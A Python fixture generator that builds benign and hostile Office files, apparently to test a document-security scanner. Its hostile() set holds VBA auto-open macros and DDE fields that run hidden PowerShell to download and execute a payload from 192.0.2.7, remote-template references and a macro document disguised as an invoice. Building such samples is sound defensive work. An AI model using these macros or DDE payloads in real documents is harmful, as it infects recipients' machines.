"""Office documents: by LibreOffice, python-docx, openpyxl and pandoc, and parts put in as Office writes them."""
import io

import docx
import openpyxl

from pdf_files import as_bytes, fax
from programs import PASSWORD, changed, run, vba_project, zipped

REPORT = ("<html><head><title>Quartalsbericht</title></head><body><h1>Quartalsbericht</h1><p>Der Umsatz stieg um 4 %."
          " Einzelheiten: <a href='https://www.litware.example/bericht'>Bericht</a></p><table border='1'><tr><td>Q1</td>"
          "<td>418</td></tr><tr><td>Q2</td><td>436</td></tr></table></body></html>").encode()
LIST = "Artikel;Menge;Preis\nSchmierfett;12;34,88\nDichtung;40;1,20\n".encode()
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
LINK_TYPE = ("<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-"
             "officedocument.spreadsheetml.externalLink+xml\"/>")
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

# What a report does to itself, what a firm's list does with its share, what a thief's does.
FORMATS = ("Sub Auto_Open()\r\n  Dim r As Range\r\n  Application.ScreenUpdating = False\r\n  For Each r In "
           "Sheets(1).UsedRange\r\n    If r.Value < 0 Then r.Font.Color = vbRed\r\n  Next r\r\n  Columns.AutoFit\r\nEnd Sub\r\n")
READS_SHARE = ("Private Sub Workbook_Open()\r\n  Dim f As Object\r\n  Set f = CreateObject(\"Scripting.FileSystemObject\")\r\n"
               "  If f.FileExists(\"\\\\fs01\\preise\\liste.csv\") Then "
               "Workbooks.Open \"\\\\fs01\\preise\\liste.csv\"\r\nEnd Sub\r\n")
READS_DATABASE = ("Private Sub Workbook_Open()\r\n  Dim c As Object, r As Object\r\n  Set c = CreateObject(\"ADODB.Connection\")\r\n"
                  "  c.Open \"Provider=SQLOLEDB;Data Source=sql01;Initial Catalog=erp;Integrated Security=SSPI\"\r\n"
                  "  Set r = c.Execute(\"SELECT artikel, menge FROM lager\")\r\n  Sheets(1).Range(\"A2\").CopyFromRecordset r\r\n"
                  "  c.Close\r\nEnd Sub\r\n")
MAILS_BY_BUTTON = ("Sub Senden_Klick()\r\n  Dim o As Object\r\n  Set o = CreateObject(\"Outlook.Application\").CreateItem(0)\r\n"
                   "  o.To = \"einkauf@litware.example\"\r\n  o.Attachments.Add ActiveWorkbook.FullName\r\n  o.Display\r\nEnd Sub\r\n")
BUTTON = "Sub Drucken_Klick()\r\n  ActiveSheet.PrintOut Copies:=2\r\nEnd Sub\r\n"
SHELLS = ("Sub AutoOpen()\r\n  Shell \"powershell -w hidden -c iwr http://192.0.2.7/a -outf $env:temp\\a.exe\", vbHide\r\n"
          "End Sub\r\n")
LOADS = ("Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As LongPtr,"
         " ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\nSub Workbook_Open()\r\n"
         "  URLDownloadToFile 0, \"http://192.0.2.7/a\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\n"
         "  CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\a.exe\"\r\nEnd Sub\r\n")


def saved(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def letter(change=None):
    document = docx.Document()
    document.add_heading("Angebot", 1)
    document.add_paragraph("Sehr geehrte Damen und Herren, anbei unser Angebot.")
    if change:
        change(document)
    return saved(document)


def related(package, kind, target, part="word/_rels/document.xml.rels", identity="rIdX"):
    """An external relation, as `part` names them."""
    return changed(package, {}, {part: [("</Relationships>", f"<Relationship Id=\"{identity}\" Type=\"{RELATIONS}/{kind}\" "
                                         f"Target=\"{target}\" TargetMode=\"External\"/></Relationships>")]})


def with_settings(package, element, kind, target):
    """settings.xml that names a template or data source."""
    relations = (f"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
                 f"Id=\"rIdX\" Type=\"{RELATIONS}/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>")
    return changed(package, {"word/_rels/settings.xml.rels": relations},
                   {"word/settings.xml": [("</w:settings>", element + "</w:settings>")]})


def in_text(package, xml):
    return changed(package, {}, {"word/document.xml": [("<w:sectPr", xml + "<w:sectPr")]})


def hyperlinked(document):
    for target in ("https://www.litware.example/agb", "https://litware.sharepoint.com/sites/vertrieb",
                   "mailto:info@litware.example"):
        document.part.relate_to(target, f"{RELATIONS}/hyperlink", is_external=True)


def book(change=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in (("Artikel", "Menge", "Preis"), ("Schmierfett", 12, 34.88), ("Dichtung", 40, 1.2)):
        sheet.append(row)
    if change:
        change(workbook)
    return saved(workbook)


def formulas(workbook):
    sheet = workbook.active
    sheet["D2"], sheet["D4"] = "=B2*C2", "=SUM(D2:D3)"
    sheet["E2"] = '=HYPERLINK("https://www.litware.example/artikel/12","Artikel")'
    sheet["F2"] = "=VLOOKUP(A2,A2:C3,3,FALSE)"


def hidden(workbook):
    workbook.create_sheet("Stammdaten").sheet_state = "hidden"
    workbook.create_sheet("Parameter").sheet_state = "veryHidden"


def linked(workbook):
    workbook.active["A2"].hyperlink = "https://litware.sharepoint.com/sites/vertrieb/artikel.xlsx"
    workbook.active["A3"].hyperlink = "\\\\fs01\\artikel\\dichtung.pdf"


def charted(workbook):
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(workbook.active, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    workbook.active.add_chart(chart, "F2")


def connected(package, connection):
    return changed(package, {"xl/connections.xml": "<?xml version=\"1.0\"?><connections xmlns=\"http://schemas.openxmlformats.org/"
                             f"spreadsheetml/2006/main\">{connection}</connections>"},
                   {"[Content_Types].xml": [("</Types>", "<Override PartName=\"/xl/connections.xml\" ContentType=\"application/"
                                             "vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/></Types>")],
                    "xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdC\" "
                                                    f"Type=\"{RELATIONS}/connections\" "
                                                    "Target=\"connections.xml\"/></Relationships>")]})


def outside_book(package, target):
    relations = ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
                 f"Type=\"{RELATIONS}/externalLinkPath\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>")
    link = ("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook xmlns:r=\""
            f"{RELATIONS}\" r:id=\"rId1\"><sheetNames><sheetName val=\"Preise\"/></sheetNames></externalBook></externalLink>")
    return changed(package, {"xl/externalLinks/externalLink1.xml": link,
                             "xl/externalLinks/_rels/externalLink1.xml.rels": relations},
                   {"[Content_Types].xml": [("</Types>", LINK_TYPE + "</Types>")],
                    "xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdL\" "
                                                    f"Type=\"{RELATIONS}/externalLink\""
                                                    " Target=\"externalLinks/externalLink1.xml\"/></Relationships>")]})


def dde_linked(package, service, topic):
    """A sheet that another program on the same machine keeps up to date."""
    link = ("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink "
            f"ddeService=\"{service}\" ddeTopic=\"{topic}\"><ddeItems><ddeItem name=\"DE0000000000 Corp,[PX_LAST]\" "
            "advise=\"1\"/></ddeItems></ddeLink></externalLink>")
    return changed(package, {"xl/externalLinks/externalLink1.xml": link},
                   {"[Content_Types].xml": [("</Types>", LINK_TYPE + "</Types>")],
                    "xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdL\" "
                                                    f"Type=\"{RELATIONS}/externalLink\""
                                                    " Target=\"externalLinks/externalLink1.xml\"/></Relationships>")]})


def with_macro(package, source, folder, main, module):
    enabled = main.replace("openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled").replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")
    part = "workbook" if folder == "xl" else "document"
    return changed(package, {f"{folder}/vbaProject.bin": vba_project(source, module)},
                   {"[Content_Types].xml": [(main, enabled), ("</Types>", f"<Override PartName=\"/{folder}/vbaProject.bin\" "
                                             "ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")],
                    f"{folder}/_rels/{part}.xml.rels": [(
                        "</Relationships>", "<Relationship Id=\"rIdV\" Type=\"http://schemas.microsoft.com/office/2006/"
                        "relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>")]})


def field(instruction):
    return ("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> "
            f"{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")


def good(office):
    picture = as_bytes(fax().resize((400, 500)), "PNG")
    slides = ("<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:draw='urn:oasis:names:tc:"
              "opendocument:xmlns:drawing:1.0' xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0' office:version='1.3' "
              "office:mimetype='application/vnd.oasis.opendocument.presentation'><office:body><office:presentation><draw:page>"
              "<draw:frame><draw:text-box><text:p>Quartal</text:p></draw:text-box></draw:frame></draw:page>"
              "</office:presentation></office:body></office:document>").encode()
    docx_by_office = office.convert(REPORT, "html", "docx", "MS Word 2007 XML")
    pptx = office.convert(slides, "fodp", "pptx", "Impress MS PowerPoint 2007 XML")
    return {
        "report.docx": docx_by_office,
        "report.doc": office.convert(REPORT, "html", "doc", "MS Word 97"),
        "report.odt": office.convert(REPORT, "html", "odt", "writer8"),
        "report.rtf": office.convert(REPORT, "html", "rtf", "Rich Text Format"),
        "report.pdf": office.convert(docx_by_office, "docx", "pdf", "writer_pdf_Export"),
        "locked.docx": office.convert(docx_by_office, "docx", "docx", "MS Word 2007 XML", PASSWORD),
        "list.xls": office.convert(book(formulas), "xlsx", "xls", "MS Excel 97"),
        "list.ods": office.convert(book(formulas), "xlsx", "ods", "calc8"),
        "locked.xlsx": office.convert(book(), "xlsx", "xlsx", "Calc MS Excel 2007 XML", PASSWORD),
        "slides.pptx": pptx,
        "slides.ppt": office.convert(pptx, "pptx", "ppt", "MS PowerPoint 97"),
        "slides.odp": office.convert(pptx, "pptx", "odp", "impress8"),
        "hyperlinks.docx": letter(hyperlinked),
        "picture_from_web.docx": related(letter(), "image", "https://www.litware.example/logo.png"),
        "picture_inside.docx": letter(lambda d: d.add_picture(io.BytesIO(picture))),
        "mail_merge.docx": with_settings(
            letter(), f"<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:dataType w:val=\"native\"/><w:dataSource "
            f"xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/></w:mailMerge>", "mailMergeSource", "file:///\\\\fs01\\adressen\\kunden.xlsx"),
        "template_on_share.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
                                                "attachedTemplate", "file:///\\\\fs01\\vorlagen\\brief.dotx"),
        "template_at_home.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
                                               "attachedTemplate", "file:///C:\\Users\\muster\\Vorlagen\\Brief.dotm"),
        "template_on_sharepoint.docx": with_settings(
            letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>", "attachedTemplate",
            "https://litware.sharepoint.com/sites/vorlagen/Freigegebene%20Dokumente/Brief.dotx"),
        "template_on_intranet.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
                                                   "attachedTemplate", "http://intranet/vorlagen/Brief.dotx"),
        "table_on_share.docx": in_text(letter(), field('LINK Excel.Sheet.12 "\\\\\\\\fs01\\\\umsatz\\\\2026.xlsx" '
                                                       '"Tabelle1!Z1S1:Z9S4" \\a \\f 5 \\h')),
        "object_on_share.docx": related(letter(), "oleObject", "file:///\\\\fs01\\umsatz\\2026.xlsx"),
        "parts_on_share.docx": in_text(letter(), field('INCLUDEPICTURE "\\\\\\\\fs01\\\\logo\\\\logo.png" \\d')
                                       + field('INCLUDETEXT "\\\\\\\\fs01\\\\texte\\\\agb.docx"')),
        "fields.docx": in_text(letter(), field("MERGEFIELD Anrede") + field("TOC \\o") + field("PAGE")
                               + field("DOCPROPERTY Titel")),
        "table_from_excel.docx": changed(in_text(letter(), "<w:p/>"), {"word/embeddings/Tabelle.xlsx": book()}),
        "by_pandoc.docx": run(["pandoc", "-f", "html", "-t", "docx", "-o", "a.docx", "a.html"], {"a.html": REPORT}, "a.docx"),
        "by_pandoc.epub": run(["pandoc", "-f", "html", "-t", "epub", "-o", "a.epub", "a.html"], {"a.html": REPORT}, "a.epub"),
        "formulas.xlsx": book(formulas),
        "hidden_sheets.xlsx": book(hidden),
        "links.xlsx": book(linked),
        "chart.xlsx": book(charted),
        "data_connection.xlsx": connected(book(), "<connection id=\"1\" name=\"ERP\" type=\"1\">"
                                          "<dbPr connection=\"DRIVER={SQL Server};"
                                          "SERVER=sql01;DATABASE=erp;Trusted_Connection=Yes\" "
                                          "command=\"SELECT * FROM umsatz\"/></connection>"),
        "web_query.xlsx": connected(book(), "<connection id=\"1\" name=\"Kurse\" type=\"4\"><webPr sourceData=\"1\" "
                                    "url=\"https://www.litware.example/kurse.html\"/></connection>"),
        "book_on_share.xlsx": outside_book(book(), "file:///\\\\fs01\\preise\\2026.xlsx"),
        "book_on_sharepoint.xlsx": outside_book(book(), "https://litware.sharepoint.com/sites/vertrieb/preise.xlsx"),
        "market_data.xlsx": dde_linked(book(), "BLP", "M"),
        "macro_formats.xlsm": with_macro(book(), FORMATS, "xl", SHEET_MAIN, "Modul1"),
        "macro_reads_share.xlsm": with_macro(book(), READS_SHARE, "xl", SHEET_MAIN, "ThisWorkbook"),
        "macro_reads_database.xlsm": with_macro(book(), READS_DATABASE, "xl", SHEET_MAIN, "ThisWorkbook"),
        "macro_mails_by_button.xlsm": with_macro(book(), MAILS_BY_BUTTON, "xl", SHEET_MAIN, "Modul1"),
        "template_on_share.rtf": b"{\\rtf1{\\*\\template \\\\\\\\fs01\\\\vorlagen\\\\brief.dotx}Sehr geehrte Damen und Herren}",
        "macro_button.docm": with_macro(letter(), BUTTON, "word", WORD_MAIN, "Modul1"),
    }


def hostile():
    return {
        "shells.docm": with_macro(letter(), SHELLS, "word", WORD_MAIN, "ThisDocument"),
        "loads.xlsm": with_macro(book(), LOADS, "xl", SHEET_MAIN, "ThisWorkbook"),
        "template_from_web.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
                                                "attachedTemplate", "https://templates.stranger.example/a.dotm"),
        "dde.docx": in_text(letter(), field(
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -c iwr http://192.0.2.7/a\"")),
        "template_shared_by_link.docx": with_settings(
            letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>", "attachedTemplate",
            "https://stranger.sharepoint.com/:w:/g/EbQx1f?download=1"),
        "dde.xlsx": dde_linked(book(), "cmd", "/c powershell -c iwr http://192.0.2.7/a"),
        "template_from_web.rtf": b"{\\rtf1{\\*\\template http://templates.stranger.example/a.dotm}x}",
        "equation.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000"
                        b"0b0000004571756174696f6e2e330000000000000000000400000041414141}}}",
        "macro_zipped.zip": zipped({"invoice.docm": with_macro(letter(), SHELLS, "word", WORD_MAIN, "ThisDocument")}),
    }
